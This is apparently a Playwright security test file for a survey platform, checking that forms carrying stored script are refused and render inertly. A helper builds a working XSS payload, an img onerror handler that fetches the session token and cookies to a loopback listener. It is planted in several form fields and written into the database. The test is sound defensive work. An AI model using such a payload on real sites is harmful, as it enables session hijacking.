import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Client } from 'pg';
import type { Browser, Page } from 'playwright-core';
import { DEMO_PASSWORD } from '@harbour/demo';
import { launchBrowser, pageViolations } from '../support/browser';
import { openCampaignWithLink } from '../support/delivery';
import { DEMO_ACCOUNTS, signInAs, startTestPlatform, type TestPlatform } from '../support/platform';

/**
 * Stored script, tried as a trust's admin would (issue 12): a SurveyJS form whose texts carry
 * an image that sends the reader's session to a listener on loopback. Harbour refuses to save
 * it; and a form that holds it anyway (planted in the database, as a form saved before the
 * check would be) runs nothing on the respondent's page or in the form studio.
 */
let platform: TestPlatform;
let browser: Browser;
let listener: Server;
const heard: string[] = [];

beforeAll(async () => {
  listener = createServer((req, res) => {
    heard.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
  [platform, browser] = await Promise.all([startTestPlatform({ HARBOUR_DELIVERY_EVERY_MS: '500' }), launchBrowser()]);
}, 90_000);
afterAll(async () => {
  await browser?.close();
  await platform?.stop();
  listener?.close();
});

function leak(): string {
  const port = (listener.address() as AddressInfo).port;
  return `<img src=x onerror="fetch('http://127.0.0.1:${port}/?t='+encodeURIComponent(sessionStorage.getItem('harbour.session')+document.cookie))">`;
}

/** A form that carries the leak in an html question, a description, a choice, completedHtml and the Welsh title. */
function carrier(): Record<string, unknown> {
  const text = leak();
  return {
    title: { default: 'Team check-in', cy: text },
    completedHtml: text,
    pages: [
      {
        name: 'p1',
        elements: [
          { type: 'html', name: 'welcome', html: `<p>Welcome.</p>${text}<p>Thank you.</p>` },
          { type: 'radiogroup', name: 'mood', title: 'How is your week?', description: text, choices: [{ value: 1, text: `Fine ${text}` }, { value: 2, text: 'Busy' }] },
        ],
      },
    ],
  };
}

async function graphql(headers: Record<string, string>, query: string, variables: Record<string, unknown>) {
  const response = await fetch(platform.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query, variables }) });
  return (await response.json()) as { data?: Record<string, { id: string } | null>; errors?: { message: string; extensions: { code: string; problems?: { path: string }[] } }[] };
}

/**
 * The page's violations but those the planted handlers cause: DOMPurify parses the text in a
 * document that inherits the page's policy, so Chromium reports each `onerror` it meets as
 * blocked (script-src-attr) before DOMPurify takes it out. A report that the policy held.
 */
async function plantedOnly(page: Page) {
  return (await pageViolations(page)).filter((v) => !/^policy violation: script-src-attr blocked inline/.test(v.help));
}

describe('a form that carries script', () => {
  it('is refused on import and on save, each problem at its JSON path, and the draft stays as it was', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const trust = (await graphql(admin, '{ organisations(tenantsOnly: true) { nodes { id } } }', {})) as unknown as { data: { organisations: { nodes: { id: string }[] } } };
    const organisationId = trust.data.organisations.nodes[0]!.id;
    const imported = await graphql(admin, 'mutation ($input: CreateSurveyInput!) { createSurvey(input: $input) { id } }', { input: { organisationId, title: 'Carrier', json: carrier() } });
    expect(imported.errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT');
    expect(imported.errors?.[0]?.extensions.problems?.map((p) => p.path)).toEqual([
      '$.title.cy',
      '$.completedHtml',
      '$.pages[0].elements[0].html',
      '$.pages[0].elements[1].description',
      '$.pages[0].elements[1].choices[0].text',
    ]);

    const clean = { pages: [{ name: 'p1', elements: [{ type: 'html', name: 'welcome', html: '<p>Welcome.</p>' }] }] };
    const made = await graphql(admin, 'mutation ($input: CreateSurveyInput!) { createSurvey(input: $input) { id } }', { input: { organisationId, title: 'Clean', json: clean } });
    const surveyId = made.data!.createSurvey!.id;
    const saved = await graphql(admin, 'mutation ($input: SaveSurveyDraftInput!) { saveSurveyDraft(input: $input) { id } }', { input: { surveyId, json: carrier() } });
    expect(saved.errors?.[0]?.extensions.code).toBe('BAD_USER_INPUT');
    const draft = (await graphql(admin, `{ survey(id: "${surveyId}") { draft } }`, {})) as unknown as { data: { survey: { draft: unknown } } };
    expect(draft.data.survey.draft).toEqual(clean);
  });

  it('runs nothing if it is stored anyway: not on the respondent\'s page, not in the platform admin\'s studio', async () => {
    const owner = new Client({ connectionString: platform.database.ownerUrl });
    await owner.connect();
    let surveyId: string;
    try {
      const trust = (await owner.query(`SELECT id FROM directory.organisation WHERE parent_id IS NULL AND name LIKE 'Northmoor%'`)).rows[0].id;
      surveyId = (await owner.query(`SELECT id FROM forms.survey WHERE tenant_id = $1 AND title = 'Where I belong: quarterly'`, [trust])).rows[0].id;
      // As a form saved before the check was: the published version and the draft both carry it.
      await owner.query('ALTER TABLE forms.survey_version DISABLE TRIGGER survey_version_immutable');
      await owner.query(`UPDATE forms.survey_version SET json = $2 WHERE survey_id = $1`, [surveyId, carrier()]);
      await owner.query('ALTER TABLE forms.survey_version ENABLE TRIGGER survey_version_immutable');
      await owner.query(`UPDATE forms.survey SET draft = $2 WHERE id = $1`, [surveyId, carrier()]);
    } finally {
      await owner.end();
    }
    const { token } = await openCampaignWithLink(platform, 'robin@northmoor.example', 'Carrier round', surveyId);

    const respondent = await browser.newPage({ viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true });
    await respondent.goto(`${platform.webUrl}s/${token}`);
    await respondent.getByText('Welcome.').waitFor();
    await respondent.getByText('Thank you.').waitFor();
    await respondent.getByText('How is your week?').waitFor();
    expect(await respondent.locator('.sd-root-modern img').count()).toBe(0);
    await respondent.waitForTimeout(500);
    expect(await plantedOnly(respondent)).toEqual([]);
    await respondent.close();

    const studio = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    await studio.goto(platform.webUrl);
    await studio.getByLabel('Email address').fill(DEMO_ACCOUNTS.platformAdmin);
    await studio.getByLabel('Password').fill(DEMO_PASSWORD);
    await studio.getByRole('button', { name: 'Sign in' }).click();
    await studio.getByRole('navigation', { name: 'Harbour' }).getByRole('link', { name: 'Surveys', exact: true }).click();
    await studio.getByRole('heading', { level: 1, name: 'Surveys' }).waitFor();
    await studio.getByRole('button', { name: 'Where I belong: quarterly' }).click();
    const preview = studio.locator('.survey-preview');
    await preview.getByText('Thank you.').waitFor();
    expect(await preview.locator('img').count()).toBe(0);
    await studio.waitForTimeout(500);
    expect(await plantedOnly(studio)).toEqual([]);
    await studio.close();
    expect(heard).toEqual([]);
  });
});

describe('the session in a browser', () => {
  it('is out of every script\'s reach, yet a new tab is signed in too', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    const first = await context.newPage();
    await first.goto(platform.webUrl);
    await first.getByLabel('Email address').fill(DEMO_ACCOUNTS.platformAdmin);
    await first.getByLabel('Password').fill(DEMO_PASSWORD);
    await first.getByRole('button', { name: 'Sign in' }).click();
    await first.getByRole('heading', { level: 1, name: 'Organisations' }).waitFor();
    const reachable = await first.evaluate(() => ({
      cookie: document.cookie,
      stored: JSON.stringify({ ...sessionStorage }) + JSON.stringify({ ...localStorage }),
    }));
    expect(reachable.cookie).not.toMatch(/harbour_session|harbour_csrf_secret/);
    expect(reachable.cookie).toMatch(/^harbour_csrf=/);
    expect(reachable.stored).not.toMatch(/hs1\./);
    const cookies = await context.cookies();
    expect(cookies.find((c) => c.name === 'harbour_session')).toMatchObject({ httpOnly: true, sameSite: 'Strict' });

    const second = await context.newPage();
    await second.goto(`${platform.webUrl}reports`);
    await second.getByRole('heading', { level: 1, name: 'Reports' }).waitFor();
    await second.getByRole('button', { name: 'Sign out' }).click();
    await second.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
    // The first tab finds out when it is next used.
    await first.reload();
    await first.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor();
    expect((await context.cookies()).map((c) => c.name)).toEqual([]);
    await context.close();
  });
});
